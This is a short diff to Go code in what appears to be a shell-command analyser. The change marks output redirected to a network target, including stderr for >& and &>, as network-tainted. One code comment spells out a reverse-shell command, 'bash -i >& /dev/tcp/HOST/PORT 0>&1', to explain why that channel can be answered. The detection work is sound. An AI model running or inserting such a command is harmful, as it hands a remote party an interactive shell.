@@ -222,8 +222,16 @@ func (r *reader) redirect(s *state, rd *syntax.Redirect, out command.Redirect, i
 		d := command.Data{Taint: command.FromNet, At: -1}
 		if rd.Op == syntax.RdrIn || rd.Op == syntax.RdrInOut {
 			r.connect(s, red, inv, fd, d)
-		} else if fd == "" || fd == "1" {
-			red.stdout = discarded
+			return
+		}
+		if fd == "" || fd == "1" {
+			fd, red.stdout = "1", discarded
+		}
+		// What is sent there can be answered: bash -i >& /dev/tcp/HOST/PORT 0>&1.
+		s.own()
+		s.fds = append(s.fds, descriptor{n: fd, data: d})
+		if rd.Op != syntax.RdrOut && rd.Op != syntax.AppOut {
+			s.fds = append(s.fds, descriptor{n: "2", data: d}) // >& and &> are both streams
 		}
 		return
 	}
@@ -327,7 +335,7 @@ func (r *reader) duplicate(s *state, rd *syntax.Redirect, out command.Redirect, 
 			default:
 				red.stdout = elsewhere
 			}
-		case !output && (out.Fd == "" || out.Fd == "0") && digits != "" && digits != "0":
+		case (out.Fd == "0" || out.Fd == "" && !output) && digits != "" && digits != "0":
 			r.connect(s, red, inv, "", r.descriptor(s, digits, "/dev/fd/"+digits))
 		case !output && digits == "":
 			if out.Fd == "" || out.Fd == "0" {
